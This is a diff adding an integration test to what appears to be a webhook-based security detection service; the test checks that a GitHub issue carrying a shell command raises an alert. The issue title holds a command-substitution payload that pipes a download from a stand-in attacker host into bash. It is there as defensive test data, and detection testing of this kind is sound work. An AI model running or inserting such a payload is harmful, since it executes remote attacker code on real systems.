@@ -211,6 +211,22 @@ test('the command line pauses, lists and resumes', async () => {
   await eventually(async () => expect(got.some(({ body }) => body === paused)).toBe(true), ARRIVE_MS_MAX);
 });
 
+test('a verified delivery feeds a detection source, and its rules see it', async () => {
+  const { source } = taken(
+    await cordon.api.POST('/api/v1/sources', { body: { name: 'github-hooks', product: 'github', rateMax: 1_000 } }),
+  );
+  const params = { path: { id: endpointId } };
+  taken(await cordon.api.PATCH('/api/v1/webhooks/{id}', { params, body: { source: source.id } }));
+  await callGithub('/repos/ada/site/issues', { title: 'Fix $(curl https://evil.example/x | bash)' });
+  await eventually(async () => {
+    const alerts = JSON.stringify(taken(await cordon.api.GET('/api/v1/alerts', { params: { query: {} } })));
+    expect(alerts).toContain('GitHub issue or wiki page holds a shell command');
+  }, ARRIVE_MS_MAX);
+  const query = { query: 'source:github-hooks OR metadata.product.name:GitHub', limit: 20 };
+  const { items } = taken(await cordon.api.GET('/api/v1/events', { params: { query } }));
+  expect(JSON.stringify(items)).toContain('evil.example');
+});
+
 function send(gateway: string, body: string, secret = SECRET): Promise<Response> {
   const signature = createHmac('sha256', secret).update(body).digest('hex');
   return fetch(`${gateway}/hooks/${endpointId}`, {
